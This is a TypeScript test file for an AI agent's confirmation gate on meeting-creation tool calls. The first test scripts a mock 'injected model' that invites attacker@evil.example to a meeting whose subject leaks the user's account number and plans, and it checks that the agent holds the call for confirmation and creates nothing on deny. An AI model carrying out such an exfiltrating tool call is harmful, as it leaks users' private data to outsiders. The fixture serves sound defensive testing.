import { MEETINGS_COLLECTION } from '../../activities/tools/meeting-tools';
import { collectEvents, eventually, sessionOptions, startTestEnv, turnCompleted, uniqueId, type TestEnv } from '../support/test-env';

let env: TestEnv;
beforeAll(async () => {
  env = await startTestEnv({ name: 'external' });
});
afterAll(async () => {
  await env?.close();
});

const meeting = (attendees?: string[]) => ({
  subject: 'Sync: the user said their account number and plans',
  start_time: '2025-03-18T14:00:00+01:00',
  end_time: '2025-03-18T14:30:00+01:00',
  ...(attendees ? { attendees } : {}),
});

describe('risk class external', () => {
  it('holds a meeting that invites someone else for confirmation, and never creates it on deny', async () => {
    const sessionId = uniqueId('s');
    env.model.script(
      [
        // The injected model: asked to note something, it invites an outsider with conversation text in the subject.
        { respond: { kind: 'tool_calls', calls: [{ id: 'call_invite', name: 'local_create_meeting', arguments: meeting(['attacker@evil.example']) }] } },
        { match: { hasToolResults: true }, respond: { kind: 'text', text: 'Okay.' } },
      ],
      { lane: sessionId },
    );
    const { turnId } = await env.agent.send(sessionOptions(sessionId), { text: 'Summarize my week.' });
    const view = await eventually(async () => {
      const v = await env.agent.getSession(sessionId);
      return v.pendingConfirmations.length > 0 ? v : null;
    }, 'a pending confirmation');
    expect(view.pendingConfirmations[0]).toMatchObject({ toolName: 'local_create_meeting', risk: 'external', arguments: { attendees: ['attacker@evil.example'] } });
    expect(await env.db.collection(MEETINGS_COLLECTION).countDocuments({ attendees: 'attacker@evil.example' })).toBe(0);
    await env.agent.deny(sessionId, 'call_invite');
    const events = await collectEvents(env.agent, sessionId, turnCompleted(turnId));
    expect(events.find((e) => e.event.type === 'confirmation_required')?.event).toMatchObject({ confirmation: { risk: 'external' } });
    expect(await env.db.collection(MEETINGS_COLLECTION).countDocuments({ attendees: 'attacker@evil.example' })).toBe(0);
    env.model.assertDone(sessionId);
  });

  it('runs a meeting for the user alone as a write, without asking', async () => {
    const sessionId = uniqueId('s');
    env.model.script(
      [
        { respond: { kind: 'tool_calls', calls: [{ id: 'call_solo', name: 'local_create_meeting', arguments: meeting([]) }] } },
        { match: { hasToolResults: true }, respond: { kind: 'text', text: 'Booked.' } },
      ],
      { lane: sessionId },
    );
    const { turnId } = await env.agent.send(sessionOptions(sessionId), { text: 'Block 30 minutes for me.' });
    const result = await env.agent.waitForTurn(sessionId, turnId);
    expect(result).toMatchObject({ outcome: 'completed', toolCalls: 1 });
    const events = await collectEvents(env.agent, sessionId, turnCompleted(turnId));
    expect(events.some((e) => e.event.type === 'confirmation_required')).toBe(false);
    expect(await env.db.collection(MEETINGS_COLLECTION).countDocuments({ createdBySession: sessionId })).toBe(1);
  });
});
